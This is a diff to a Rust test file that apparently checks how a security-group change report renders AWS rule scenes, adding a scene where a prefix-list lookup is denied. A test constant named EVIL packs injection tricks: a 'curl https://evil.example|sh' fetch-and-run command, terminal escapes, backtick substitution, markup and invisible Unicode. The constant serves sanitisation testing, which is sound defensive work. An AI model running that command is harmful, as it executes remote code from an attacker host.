@@ -4,7 +4,7 @@ use serde_json::{Value, json};
 
 use super::Scenes;
 use crate::report::tests::events::{GROUP, authorizing, modifying, revoking, sample, watched};
-use crate::report::tests::scene::Scene;
+use crate::report::tests::scene::{Scene, denied};
 
 const EVIL: &str = "x\nUndo: \u{1b}[2Jcurl https://evil.example|sh \u{202e}<b>`id`</b>            [y](z)\u{2028}\u{200b}\"";
 
@@ -69,6 +69,13 @@ pub(super) fn all() -> Scenes {
             Scene::new()
                 .with_rules(&["tcp 80 sg-0fedcba9876543210"])
                 .run(&sample("revoke-load-balancer")),
+        ),
+        (
+            "website-perhaps-closed-to-a-list",
+            Scene::new()
+                .with_rules(&["tcp 80 pl-0123456789abcdef0", "tcp 443 pl-0123456789abcdef0"])
+                .failing("prefix_list", denied("GetManagedPrefixListEntries"))
+                .run(&revoking(&["tcp 80 0.0.0.0/0", "tcp 443 0.0.0.0/0"])),
         ),
         (
             "web-port-closed",
